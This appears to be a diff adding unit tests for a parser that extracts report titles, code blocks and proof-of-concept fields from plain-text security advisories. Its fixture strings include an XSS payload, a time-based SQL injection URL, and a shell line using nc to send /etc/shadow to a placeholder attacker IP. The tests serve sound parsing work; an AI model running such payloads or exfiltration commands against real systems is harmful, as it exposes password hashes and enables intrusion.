@@ -102,4 +102,24 @@ describe("a firm's plain-text advisory", () => {
     const parts = extractReport({ text, subject: null }).multiple ?? [];
     expect(parts.map((p) => p.title)).toEqual(['User enumeration', 'Cross Site Scripting in "qsCall" parameter', 'Cross Site Scripting in "/api/jsonrpc"']);
   });
+
+  it("reads an indented CWE name with its aside in brackets as a label's value, not code", () => {
+    expect(codeBlocks("Class:\n    CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')\n")).toEqual([]);
+    expect(codeBlocks('Payload:\n    alert(document.domain)\n')).toHaveLength(1);
+  });
+
+  it('takes the code between two "-----code snippet-----" lines for the PoC, but not what PGP armours', () => {
+    const text =
+      '6. At File Template (copy and paste the below):\n-----code snippet-----\n#!/bin/sh\n/usr/bin/nc <attacker_ip> 1234 < /etc/shadow\n-----code snippet-----\n\n7. Save.\n';
+    expect(fields(text).poc).toBe('#!/bin/sh\n/usr/bin/nc <attacker_ip> 1234 < /etc/shadow');
+    expect(codeBlocks('-----BEGIN PGP SIGNATURE-----\niQIzBAEBCAAdFiEE\n-----END PGP SIGNATURE-----\n')).toEqual([]);
+  });
+
+  it('takes the paragraph a line hands over as the exploit: a URL wrapped over lines', () => {
+    const text =
+      'Below is a simple SQL Injection exploit, which uses a time-based technique:\n\nhttp://[host]/ajax/getDropdown.php?fromtype=Computer&page_limit=1%20PROCEDURE%20analyse%28%28select%20extractval\nue%28rand%28%29%29%29,1%29\n\nThe page then loads slowly.\n';
+    expect(fields(text).poc).toMatch(/^http:\/\/\[host\]\/ajax\/getDropdown\.php\?fromtype=Computer.*\nue%28rand/s);
+    // A line that introduces prose hands over no payload.
+    expect(fields('The exploit works as follows:\n\nThe attacker logs in and opens the settings page.\n').poc).toBeUndefined();
+  });
 });
